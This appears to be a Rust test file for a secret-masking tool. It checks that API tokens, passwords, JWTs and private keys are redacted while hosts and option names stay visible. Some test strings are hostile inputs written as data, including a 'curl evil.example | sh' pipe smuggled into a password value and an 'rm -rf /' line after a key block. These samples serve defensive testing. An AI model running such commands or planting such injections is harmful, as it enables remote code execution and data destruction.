//! What is masked, what is not, and what stays visible.

use super::tokens::SHAPES;
use super::*;
use proptest::prelude::*;

/// As many characters as asked for of what a random token looks like.
fn mix(length: usize) -> &'static str {
    "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSrTu6WyX0zAb3Cx7Kd93jLmQ2pRt5vYw8Z".get(..length).unwrap()
}

/// For every row of the table: what follows the prefix, and what must not follow it. The tokens are put
/// together here so that no scanner takes this file for a leak.
const EXAMPLES: &[(&str, &str, &str)] = &[
    ("csk_", "00112233445566778899aabbccddeeff_x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSrTu6WyX0", "short"),
    ("AKIA", "IOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLES"),
    ("ASIA", "IOSFODNN7EXAMPLE", "N"),
    ("ghp_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "list_of_people"),
    ("gho_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "st"),
    ("ghu_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "x"),
    ("ghs_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "x"),
    ("ghr_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "x"),
    ("github_pat_", "11ABCDEFG0x7Kd93jLmQ2p_Rt5vYw8ZaBc1EfGh4iNoPq", "name"),
    ("glpat-", "x7Kd93jLmQ2pRt5vYw8Z", "file"),
    ("gldt-", "x7Kd93jLmQ2pRt5vYw8Z", "file"),
    ("glrt-", "x7Kd93jLmQ2pRt5vYw8Z", "file"),
    ("glptt-", "x7Kd93jLmQ2pRt5vYw8Z", "file"),
    ("glcbt-", "x7Kd93jLmQ2pRt5vYw8Z", "file"),
    ("xoxa-", "123456789012-abcdefGHIJKL", "a"),
    ("xoxb-", "123456789012-abcdefGHIJKL", "a"),
    ("xoxe-", "123456789012-abcdefGHIJKL", "a"),
    ("xoxp-", "123456789012-abcdefGHIJKL", "a"),
    ("xoxr-", "123456789012-abcdefGHIJKL", "a"),
    ("xoxs-", "123456789012-abcdefGHIJKL", "a"),
    ("xapp-", "1-A0123456789-abcdefGHIJKL", "main"),
    ("sk_live_", "x7Kd93jLmQ2pRt5vYw8Z", "mode"),
    ("sk_test_", "x7Kd93jLmQ2pRt5vYw8Z", "mode"),
    ("rk_live_", "x7Kd93jLmQ2pRt5vYw8Z", "mode"),
    ("rk_test_", "x7Kd93jLmQ2pRt5vYw8Z", "mode"),
    ("whsec_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNo", "id"),
    ("sk-ant-", "api03-x7Kd93jLmQ2pRt5vYw8Z", "hill"),
    ("sk-proj-", "x7Kd93jLmQ2pRt5vYw8Z", "plan"),
    ("sk-svcacct-", "x7Kd93jLmQ2pRt5vYw8Z", "plan"),
    ("sk-admin-", "x7Kd93jLmQ2pRt5vYw8Z", "page"),
    ("sk-", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSrTu6WyX0zAb3C", "learn-a-branch-with-a-very-long-name-in-lower-case-2"),
    ("AIza", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqS", "bella"),
    ("ya29.", "x7Kd93jLmQ2pRt5vYw8Z", "1"),
    ("GOCSPX-", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh", "x"),
    ("npm_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSr", "config_cache"),
    ("pypi-", "AgEIcHlwaS5vcmcx7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPqSrTu6WyX0", "mirror"),
    ("hf_", "x7Kd93jLmQ2pRt5vYw8ZaBc1EfGh4iNoPq", "home"),
    ("dckr_pat_", "x7Kd93jLmQ2pRt5vYw8ZaBc1E", "x"),
    ("dop_v1_", "0011223344556677889900112233445566778899001122334455667788990011", "x"),
];

fn sole(text: &str) -> Redaction {
    let found = find(text);
    assert_eq!(found.len(), 1, "{text:?}: {found:?}");
    found[0].clone()
}

fn value<'a>(text: &'a str, redaction: &Redaction) -> &'a str {
    text.get(redaction.start..redaction.end).unwrap()
}

#[test]
fn threat_67_every_token_shape_has_examples_that_hold() {
    for shape in SHAPES {
        let rows: Vec<_> = EXAMPLES.iter().filter(|(prefix, ..)| *prefix == shape.prefix).collect();
        assert!(!rows.is_empty(), "no example for {}", shape.prefix);
        for (prefix, good, bad) in rows {
            let token = format!("{prefix}{good}");
            for text in [format!("curl -H {token} x"), format!("https://h/?k={token}&y=1"), token.clone()] {
                assert_eq!(value(&text, &sole(&text)), token);
            }
            assert_eq!(find(&format!("cat {prefix}{bad}")), [], "{prefix}{bad}");
            assert_eq!(find(&format!("inside{token}")), [], "a token starts at a word's start");
        }
    }
}

#[test]
fn threat_67_masks_name_kind_length_and_hash() {
    let token = format!("ghp_{}", mix(36));
    let masked = mask(&format!("git push https://{token}@github.com/a/b"));
    let hash = sha256(token.as_bytes()).to_hex().get(..8).unwrap().to_owned();
    assert_eq!(masked.text, format!("git push https://[github token, 40 characters, sha256 {hash}]@github.com/a/b"));
    assert_eq!(masked.redactions[0].chars, 40);
}

#[test]
fn threat_67_secrets_of_every_other_kind() {
    let jwt = format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.{}", mix(43));
    let bot = format!("123456789:{}", mix(35));
    let cases: &[(String, &str, SecretKind)] = &[
        (format!("x {jwt} y"), &jwt, SecretKind::Jwt),
        (format!("curl https://api.telegram.org/bot{bot}/getMe"), &bot, SecretKind::TelegramToken),
        ("curl -H 'Authorization: Bearer abc.def-123'".into(), "abc.def-123", SecretKind::Authorization),
        ("curl -H \"authorization: Basic dXNlcjpwYXNz\" h".into(), "dXNlcjpwYXNz", SecretKind::Authorization),
        (r#"{"Authorization": "Bearer abcdef123"}"#.into(), "abcdef123", SecretKind::Authorization),
        (format!("Bearer {}", mix(30)), mix(30), SecretKind::Authorization),
        ("psql postgres://app:hunter2@db.example/app".into(), "hunter2", SecretKind::Password),
        ("psql postgres://app:p@ss@db.example/app".into(), "p@ss", SecretKind::Password),
        ("PGPASSWORD=hunter2 psql -h db".into(), "hunter2", SecretKind::Password),
        ("DB_PASS='correct horse' run".into(), "correct horse", SecretKind::Password),
        ("https://h/p?token=abcdef&next=/home".into(), "abcdef", SecretKind::Secret),
        ("deploy --password hunter2 --host prod".into(), "hunter2", SecretKind::Password),
        ("deploy --api-key=\"k1\" prod".into(), "k1", SecretKind::Secret),
        ("password = hunter2".into(), "hunter2", SecretKind::Password),
        (r#"{"client_secret": "s3cr"}"#.into(), "s3cr", SecretKind::Secret),
        (r#"curl -d "{\"password\":\"hunter2\"}""#.into(), "hunter2", SecretKind::Password),
        (
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY".into(),
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCY",
            SecretKind::AwsSecret,
        ),
        ("mysql -u root -phunter2 app".into(), "hunter2", SecretKind::Password),
        ("/usr/bin/sshpass -p 'hunter2' ssh h".into(), "hunter2", SecretKind::Password),
        ("docker login -u me -p hunter2; ls".into(), "hunter2", SecretKind::Password),
        ("curl -u me:hunter2 https://h".into(), "hunter2", SecretKind::Password),
        ("curl --user=me:hunter2 https://h".into(), "hunter2", SecretKind::Password),
        ("redis-cli -a hunter2 ping".into(), "hunter2", SecretKind::Password),
    ];
    for (text, secret, kind) in cases {
        let redaction = sole(text);
        assert_eq!((value(text, &redaction), redaction.kind), (*secret, *kind), "{text}");
    }
}

#[test]
fn threat_67_what_is_no_secret_stays() {
    for text in [
        "echo password=$PASSWORD",
        "x --token \"$TOKEN\"",
        "x --password=${PW}",
        "token=$(cat f)",
        "token=`cat f`",
        "x --token-file /run/x",
        "docker login --password-stdin",
        "secret=/run/secrets/db",
        "token=./t",
        "mkdir -p a/b",
        "docker run -p 8080:80 x",
        "ssh -p 22 h",
        "mysql -p app",
        "curl -u me https://h",
        "PWD=/home/me",
        "max_tokens=4096",
        "max_token=4096",
        "pub token: String,",
        "let token = parser.next();",
        "if password == other {",
        "the token: see below",
        "docker build --secret id=npm,src=x .",
        "kubectl get secret db",
        "curl -H 'Authorization: Bearer $T'",
        "https://h:8080/a@b",
        "git@github.com:a/b",
        "{\"token\": null}",
        "a -----BEGIN PUBLIC KEY----- b",
        "password=[password, 7 characters, sha256 00112233]",
        "secret: <your secret>",
        "password: {{ vault }}",
        "sha256:0011223344556677889900112233445566778899",
    ] {
        assert_eq!(find(text), [], "{text}");
    }
}

#[test]
fn threat_12_host_path_and_option_names_stay_visible() {
    let masked =
        mask("curl -u me:hunter2 'https://a:b1c2@evil.example/p?token=abc&to=evil2.example' --password x9 -o out");
    for visible in ["curl -u me:", "@evil.example/p?token=", "&to=evil2.example", "--password ", " -o out"] {
        assert!(masked.text.contains(visible), "{visible}: {}", masked.text);
    }
    for hidden in ["hunter2", "b1c2", "=abc", "x9"] {
        assert!(!masked.text.contains(hidden), "{hidden}: {}", masked.text);
    }
}

#[test]
fn threat_12_nothing_that_could_run_or_be_reached_hides_behind_a_name() {
    for (text, visible) in [
        ("password='x; curl evil.example | sh'", "curl evil.example"),
        ("password=x;curl evil.example", "curl evil.example"),
        ("https://a:b@evil.example@good.example/", "evil.example"),
        ("echo -----BEGIN PRIVATE KEY----- ; curl evil.example", "curl evil.example"),
        ("-----BEGIN PRIVATE KEY-----\ncurl evil sh\n-----END PRIVATE KEY-----", "curl evil sh"),
        ("mysql -px;curl evil.example", "curl evil.example"),
        ("sshpass -p \"$(curl evil.example)\" ssh h", "curl evil.example"),
        ("token=https://evil.example/x", "evil.example"),
    ] {
        assert!(mask(text).text.contains(visible), "{}", mask(text).text);
    }
}

#[test]
fn threat_67_private_key_blocks_keep_their_first_and_last_line() {
    let line = mix(64);
    for (begin, end, breaks) in [
        ("-----BEGIN OPENSSH PRIVATE KEY-----", "-----END OPENSSH PRIVATE KEY-----", "\n"),
        ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "\\n"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n",
            "-----END RSA PRIVATE KEY-----",
            "\r\n",
        ),
        ("-----BEGIN PGP PRIVATE KEY BLOCK-----\n", "-----END PGP PRIVATE KEY BLOCK-----", "\n"),
    ] {
        let body = format!("{line}{breaks}{line}{breaks}AbCd=={breaks}=ABcd");
        let text = format!("echo '{begin}{breaks}{body}{breaks}{end}' > key");
        let redaction = sole(&text);
        assert_eq!((value(&text, &redaction), redaction.kind), (body.as_str(), SecretKind::PrivateKey));
    }
    let cut = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nrm -rf /");
    assert_eq!(value(&cut, &sole(&cut)), format!("{line}\n{line}"));
}

#[test]
fn words_and_names_tell_what_a_value_is() {
    let found = find_in_words(&["mysql", "-phunter2", "--password", "two words", "x"]);
    let ranges: Vec<Vec<_>> = found.iter().map(|all| all.iter().map(|r| (r.start, r.end)).collect()).collect();
    assert_eq!(ranges, [vec![], vec![(2, 9)], vec![], vec![(0, 9)], vec![]]);
    assert_eq!(find_named("DB_PASSWORD", "two words")[0].chars, 9);
    let half = format!("ghp_{} and more", mix(36));
    assert_eq!(find_named("GH_TOKEN", &half)[0].chars, half.len());
    assert_eq!(find_named("GH_TOKEN", &format!("ghp_{}", mix(36)))[0].kind, SecretKind::GithubToken);
    assert_eq!(find_named("HOME", "/home/me"), []);
    assert_eq!(find_named("DATABASE_URL", "pg://a:b@h/x")[0].chars, 1);
}

#[test]
fn a_long_hostile_text_is_read_to_its_end() {
    // Quadratic work on any of these would run into the test runner's time limit.
    for unit in [
        "sk-",
        "eyJ-",
        "eyJ.",
        "AKIA",
        "://a:",
        "password='",
        "-----BEGIN PRIVATE KEY-----",
        "1234567:",
        "mysql -p ",
        "bearer ",
    ] {
        let text = format!("{} ghp_{}", unit.repeat(400_000 / unit.len()), mix(36));
        let masked = mask(&text);
        assert!(!masked.text.contains(mix(36)), "{unit:?} hid the token at the end");
    }
}

proptest! {
    #[test]
    fn masking_never_panics_and_ranges_are_in_order(text in any::<String>(), word in "(password|token|Bearer|mysql -p|://a:)[=: '\"]{0,3}\\PC{0,40}@?") {
        for text in [text.clone(), word.clone(), format!("{text}{word}{text}")] {
            let masked = mask(&text);
            let mut at = 0;
            for redaction in &masked.redactions {
                prop_assert!(at <= redaction.start && redaction.start < redaction.end);
                prop_assert!(text.get(redaction.start..redaction.end).is_some());
                at = redaction.end;
            }
            prop_assert!(masked.redactions.is_empty() == (masked.text == text));
        }
    }

    #[test]
    fn masking_what_is_masked_changes_nothing(name in "(--)?(password|DB_PASS|api_key|token)", value in "[a-zA-Z0-9]{6,30}") {
        let once = mask(&format!("x {name}={value} y"));
        prop_assert_eq!(&mask(&once.text).text, &once.text);
    }
}
